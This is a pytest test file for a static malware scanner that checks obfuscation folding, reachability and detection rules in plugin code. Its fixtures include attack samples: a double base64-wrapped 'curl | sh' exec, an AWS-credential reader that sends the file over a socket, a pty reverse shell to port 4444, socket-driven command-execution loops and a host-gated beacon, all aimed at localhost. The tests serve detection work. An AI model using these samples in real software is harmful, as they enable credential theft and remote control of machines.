"""The engine's machinery: constant folding, reachability from the entry, payload recursion, guards."""

# ruff: noqa: E501

from __future__ import annotations

import ast

import pytest

from automatos.extensions.scanning.facts import ModuleFacts
from automatos.kernel.types import Severity
from tests.scanning.conftest import scan


def _fold(source: str) -> object:
    tree = ast.parse(source)
    facts = ModuleFacts(tree)
    last = tree.body[-1]
    assert isinstance(last, ast.Expr)
    folded = facts.folder.fold(last.value)
    return None if folded is None else folded.value


@pytest.mark.parametrize(
    ("source", "value"),
    [
        ("'o' + 's'", "os"),
        ("'metsys'[::-1]", "system"),
        ("''.join(map(chr, [111, 115]))", "os"),
        ("''.join([chr(c) for c in [111, 115]])", "os"),
        ("import base64\nbase64.b64decode('b3M=').decode()", "os"),
        ("import codecs\ncodecs.decode('bf', 'rot13')", "os"),
        ("bytes.fromhex('6f73').decode()", "os"),
        ("import zlib, base64\nzlib.decompress(base64.b64decode('eJzLLwYAAVMA4w=='))", b"os"),
        ("a = 'o'\nb = a + 's'\nf'{b}.path'", "os.path"),
        ("'%s.%s' % ('os', 'system')", "os.system"),
        ("'{}{}'.format('o', 's')", "os"),
        ("from pathlib import Path\nPath.home() / '.ssh' / 'id_rsa'", "~/.ssh/id_rsa"),
        ("c = 'cu'\nc += 'rl'\nc", "curl"),
        ("def f():\n    c = 'sys'\n    c += 'tem'\n    return c\nc = 'x'\nc", "x"),
    ],
)
def test_constant_folding(source: str, value: object) -> None:
    assert _fold(source) == value


def test_folding_caps_huge_values() -> None:
    assert _fold("'a' * 10 ** 9") is None


def test_unreachable_module_weighs_half_and_install_roots_are_reached() -> None:
    report = scan(
        {
            "plug/__init__.py": "from . import util\n",
            "plug/util.py": "def ok():\n    return 1\n",
            "tools/unused.py": "import subprocess\ndef go():\n    subprocess.run(['id'])\n",
            "conftest.py": "import subprocess\nsubprocess.run(['id'])\n",
        }
    )
    unused = next(f for f in report.findings if f.path == "tools/unused.py")
    assert (unused.rule, unused.reachable) == ("process-spawn", False)
    conftest = next(f for f in report.findings if f.path == "conftest.py" and f.rule == "process-spawn")
    assert conftest.reachable and "when a test, docs or task tool loads it" in conftest.message


def test_entry_import_chain_is_reachable() -> None:
    report = scan(
        {
            "plug/__init__.py": "from plug.core import run\n",
            "plug/core.py": "import subprocess\ndef run():\n    subprocess.run(['id'])\n",
        }
    )
    assert [(f.rule, f.reachable) for f in report.findings] == [("process-spawn", True)]


def test_decoded_payload_is_scanned_again_and_points_at_the_outer_line() -> None:
    import base64

    inner = base64.b64encode(b"import os\nos.system('curl http://127.0.0.1/x | sh')\n").decode()
    outer = base64.b64encode(f"import base64\nexec(base64.b64decode('{inner}'))\n".encode()).decode()
    report = scan({"plug/__init__.py": f"import base64\n\n\nexec(base64.b64decode('{outer}'))\n"})
    rules = {(f.rule, f.line) for f in report.findings}
    assert ("obfuscated-exec", 4) in rules and ("download-exec", 4) in rules
    assert report.verdict.value == "blocked"


def test_deeply_nested_source_is_a_finding_not_a_crash() -> None:
    source = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\n"
    report = scan({"plug/__init__.py": source})
    assert [f.rule for f in report.findings] == ["unparsable"]
    assert report.findings[0].severity is Severity.CRITICAL


def test_setup_py_module_level_network_is_critical_at_install_time() -> None:
    report = scan({"setup.py": "import urllib.request\nurllib.request.urlopen('http://127.0.0.1:9/x')\n"})
    hit = next(f for f in report.findings if f.rule == "network-access")
    assert hit.severity is Severity.CRITICAL and "install time" in hit.message


def test_secret_through_a_helper_and_a_global_reaches_the_sink() -> None:
    source = """
        import os, socket
        KEYS = open(os.path.expanduser("~/.aws/credentials")).read()
        def pack(data):
            return data.encode()
        def send(payload):
            s = socket.socket()
            s.connect(("127.0.0.1", 9))
            s.sendall(payload)
        def register(ctx):
            send(pack(KEYS))
    """
    report = scan({"plug/__init__.py": source})
    assert any(f.rule == "exfiltration" and f.severity is Severity.CRITICAL for f in report.findings)
    assert any(f.rule == "credential-read" for f in report.findings)


def test_augmented_string_building_in_a_loop_is_not_folded() -> None:
    assert _fold("c = ''\nfor p in ['a', 'b']:\n    c += p\nc") is None


def _rules(report: object) -> dict[str, tuple[Severity, int]]:
    return {f.rule: (f.severity, f.line) for f in reversed(report.findings)}  # type: ignore[attr-defined]


def test_names_resolve_through_self_attributes_and_either_branch_of_a_conditional() -> None:
    source = """
        import socket, os
        _b = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
        class Link:
            def open(self):
                self.sock = socket.socket()
                self.sock.connect(("127.0.0.1", 4444))
            def shell(self):
                os.dup2(self.sock.fileno(), 0)
                _b["exec"]("import pty; pty.spawn('/bin/sh')")
    """
    rules = _rules(scan({"plug/__init__.py": source}))
    assert rules["network-access"] == (Severity.HIGH, 7)
    assert rules["obfuscated-call"] == (Severity.HIGH, 10)
    assert rules["reverse-shell"][0] is Severity.CRITICAL
    benign = "import socket\nclass Probe:\n    def open(self):\n        self.sock = socket.socket()\n    def close(self):\n        self.sock.close()\n"
    assert scan({"plug/__init__.py": benign}).verdict.value == "safe"


def test_commands_read_from_a_socket_are_download_exec_and_output_piped_in_is_not() -> None:
    udp = """
        import os, socket
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        def control():
            while True:
                data, addr = s.recvfrom(4096)
                s.sendto(os.popen(data.decode()).read().encode(), addr)
    """
    assert _rules(scan({"plug/__init__.py": udp}))["download-exec"] == (Severity.CRITICAL, 7)
    walrus = """
        import asyncio
        async def session():
            reader, writer = await asyncio.open_connection("127.0.0.1", 8765)
            while line := await reader.readline():
                await asyncio.create_subprocess_shell(line.decode())
    """
    assert _rules(scan({"plug/__init__.py": walrus}))["download-exec"] == (Severity.CRITICAL, 6)
    twin = """
        import subprocess, urllib.request
        def convert():
            text = urllib.request.urlopen("https://docs.invalid/a.md").read()
            return subprocess.run(["pandoc", "-f", "markdown"], input=text, capture_output=True).stdout
    """
    report = scan({"plug/__init__.py": twin}, {"network": ["docs.invalid"], "subprocess": ["pandoc"]})
    assert "download-exec" not in _rules(report) and report.verdict.value == "safe"


def test_pip_install_at_run_time_is_download_exec() -> None:
    bad = "import subprocess, sys\ndef deps():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '-r', 'requirements.txt'])\n"
    # packages by name from the index: a policy breach for review (high); from a URL: critical
    assert _rules(scan({"plug/__init__.py": bad}))["download-exec"] == (Severity.HIGH, 3)
    url = bad.replace("'-r', 'requirements.txt'", "'https://x.invalid/p.whl'")
    assert _rules(scan({"plug/__init__.py": url}))["download-exec"] == (Severity.CRITICAL, 3)
    twin = "import subprocess, sys\ndef version():\n    return subprocess.run([sys.executable, '-m', 'pip', '--version'], capture_output=True)\n"
    assert "download-exec" not in _rules(scan({"plug/__init__.py": twin}))


def test_setup_py_reading_its_version_from_git_is_high_and_fetching_stays_critical() -> None:
    probe = "import subprocess\nV = subprocess.check_output(['git', 'describe', '--tags']).decode().strip()\n"
    hit = next(f for f in scan({"setup.py": probe}).findings if f.rule == "process-spawn")
    assert (hit.severity, hit.line) == (Severity.HIGH, 2) and "install time" in hit.message
    for bad in (
        "import subprocess\nsubprocess.check_output(['git', 'clone', 'https://x.invalid/r'])\n",
        "import subprocess\nsubprocess.run(['git', 'describe'])\n",
        "import subprocess\nsubprocess.check_output('git describe; id', shell=True)\n",
        "import subprocess\nsubprocess.check_output(['curl', 'https://x.invalid'])\n",
    ):
        hit = next(f for f in scan({"setup.py": bad}).findings if f.rule == "process-spawn")
        assert hit.severity is Severity.CRITICAL, bad


def test_docs_conf_and_task_files_are_roots() -> None:
    bad = "import subprocess\nsubprocess.Popen('curl -s http://127.0.0.1:8000/d.sh | bash', shell=True)\n"
    for path in ("docs/conf.py", "noxfile.py"):
        report = scan({"plug/__init__.py": "X = 1\n", path: bad})
        hit = next(f for f in report.findings if f.rule == "download-exec")
        assert hit.reachable and report.verdict.value == "blocked", path
    plain = "project = 'x'\nextensions = ['sphinx.ext.autodoc']\n"
    assert scan({"plug/__init__.py": "X = 1\n", "docs/conf.py": plain}).verdict.value == "safe"


def test_time_and_host_gates_of_undeclared_behaviour_are_critical_and_declared_ones_high() -> None:
    host = """
        import socket, urllib.request
        def maybe():
            if not socket.gethostname().startswith("prod"):
                return
            urllib.request.urlopen("http://127.0.0.1:8000/t", data=b"x")
    """
    gate = next(f for f in scan({"plug/__init__.py": host}).findings if f.rule == "time-gate")
    assert (gate.severity, gate.line) == (Severity.CRITICAL, 6) and "chosen hosts" in gate.message
    declared = next(
        f for f in scan({"plug/__init__.py": host}, {"network": ["127.0.0.1"]}).findings if f.rule == "time-gate"
    )
    assert declared.severity is Severity.HIGH
    twin = "import socket\ndef label():\n    if socket.gethostname().startswith('prod'):\n        return 'production'\n    return 'dev'\n"
    assert scan({"plug/__init__.py": twin}).verdict.value == "safe"


def test_unsafe_yaml_of_input_is_medium_and_safe_loaders_are_nothing() -> None:
    bad = "import yaml\ndef parse(text):\n    return yaml.load(text, Loader=yaml.Loader)\n"
    assert _rules(scan({"plug/__init__.py": bad}))["embedded-deserialise"] == (Severity.MEDIUM, 3)
    for good in (
        "yaml.safe_load(text)",
        "yaml.load(text, Loader=yaml.CSafeLoader)",
        "yaml.load(text, yaml.SafeLoader)",
    ):
        source = f"import yaml\ndef parse(text):\n    return {good}\n"
        assert "embedded-deserialise" not in _rules(scan({"plug/__init__.py": source})), good


def test_dynamic_import_inside_its_own_package_is_medium() -> None:
    source = "import importlib\ndef load(kind):\n    return importlib.import_module(f'.fmt_{kind}', package=__name__)\n"
    assert _rules(scan({"plug/__init__.py": source}))["dynamic-import"] == (Severity.MEDIUM, 3)
    other = "import importlib\nT = ['json', 'pickle']\ndef load(i):\n    return importlib.import_module(T[i])\n"
    assert _rules(scan({"plug/__init__.py": other}))["dynamic-import"] == (Severity.MEDIUM, 4)
